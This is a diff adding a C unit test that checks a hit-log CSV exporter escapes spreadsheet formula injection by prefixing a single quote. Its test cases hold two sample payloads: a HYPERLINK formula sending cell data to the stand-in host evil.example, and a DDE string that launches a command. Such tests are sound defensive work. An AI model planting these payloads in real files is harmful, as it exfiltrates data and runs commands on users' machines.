@@ -319,6 +319,50 @@ static void test_csv(void)
 	g_assert_nonnull(strstr(out, ",\"FT, \"\"World\"\"\","));
 }
 
+/* Fields a spreadsheet would run as formulas (OWASP "CSV Injection"): a
+ * leading = + - @ tab or CR gets a single quote in front, inside quotes. */
+static void test_csv_formula(void)
+{
+	static const struct {
+		const char *in, *want;
+	} cases[] = {
+		{ "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+		  "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" },
+		{ "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0" },
+		{ "=1+1", "'=1+1" },
+		{ "+1", "'+1" },
+		{ "-2+3", "'-2+3" },
+		{ "\t=1", "'\t=1" },
+		{ "\r=1", "'\r=1" },
+		{ "a=1", "a=1" },
+		{ "'quoted", "'quoted" },
+		{ "", "" },
+	};
+
+	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
+		struct fw_hit_row r = rows[0];
+		g_autoptr(GPtrArray) a = g_ptr_array_new();
+		g_autofree char *out = NULL;
+		g_autoptr(GPtrArray) recs = NULL;
+		GPtrArray *rec;
+
+		r.title = (char *)cases[i].in;
+		r.item_id = (char *)cases[i].in;
+		r.snippet = (char *)cases[i].in;
+		g_ptr_array_add(a, &r);
+		out = print_to_string(a, FW_HITLOG_CSV, FALSE, 0);
+		recs = csv_parse(out);
+		g_assert_cmpuint(recs->len, ==, 2);
+		rec = recs->pdata[1];
+		g_assert_cmpstr(rec->pdata[5], ==, cases[i].want);
+		g_assert_cmpstr(rec->pdata[6], ==, cases[i].want);
+		g_assert_cmpstr(rec->pdata[10], ==, cases[i].want);
+		/* a neutralised field is quoted, so the quote cannot be lost */
+		if (cases[i].want[0] == '\'' && cases[i].in[0] != '\'')
+			g_assert_nonnull(strstr(out, ",\"'"));
+	}
+}
+
 static void test_csv_empty(void)
 {
 	g_autoptr(GPtrArray) a = g_ptr_array_new();
@@ -816,6 +860,7 @@ int main(int argc, char **argv)
 	g_test_add_func("/hitlog/json/invalid-utf8", test_json_invalid_utf8);
 	g_test_add_func("/hitlog/csv", test_csv);
 	g_test_add_func("/hitlog/csv/empty", test_csv_empty);
+	g_test_add_func("/hitlog/csv/formula", test_csv_formula);
 	g_test_add_func("/hitlog/atom", test_atom);
 	g_test_add_func("/hitlog/atom/empty", test_atom_empty);
 	g_test_add_func("/hitlog/table", test_table);
